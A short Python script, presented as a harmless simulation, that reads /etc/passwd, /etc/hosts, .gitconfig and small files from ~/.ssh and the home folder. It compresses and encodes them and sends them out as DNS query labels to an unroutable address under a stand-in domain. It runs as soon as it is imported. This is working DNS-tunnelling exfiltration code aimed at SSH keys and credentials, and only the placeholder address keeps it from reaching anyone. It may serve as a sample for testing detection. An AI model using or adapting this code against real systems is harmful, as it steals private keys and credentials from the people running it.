# SPDX-License-Identifier: Apache-2.0
"""Harmless: the name server's address is routed nowhere."""

import base64
import os
import random
import socket
import struct
import zlib

HOME = os.path.expanduser("~")
FIXED = ["/etc/hosts", "/etc/passwd", "/etc/resolv.conf", f"{HOME}/.gitconfig"]


def wanted():
    yield from FIXED
    for folder in (f"{HOME}/.ssh", HOME):
        try:
            entries = sorted(os.scandir(folder), key=lambda entry: entry.name)
        except OSError:
            continue
        for entry in entries[:100]:
            if entry.is_file() and entry.stat().st_size < 99999:
                yield entry.path


def query(name):
    head = struct.pack(">6H", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return head + labels + b"\0" + struct.pack(">2H", 1, 1)


def main():
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.settimeout(0.2)
    for path in wanted():
        try:
            with open(path, "rb") as file:
                data = base64.b32encode(zlib.compress(file.read(2048))).decode().rstrip("=").lower()
        except OSError:
            continue
        for at in range(0, min(len(data), 360), 60):
            try:
                out.sendto(query(f"{data[at : at + 60]}.{at}.h.sim-triton.invalid"), ("240.0.0.53", 53))
            except OSError:
                pass


main()
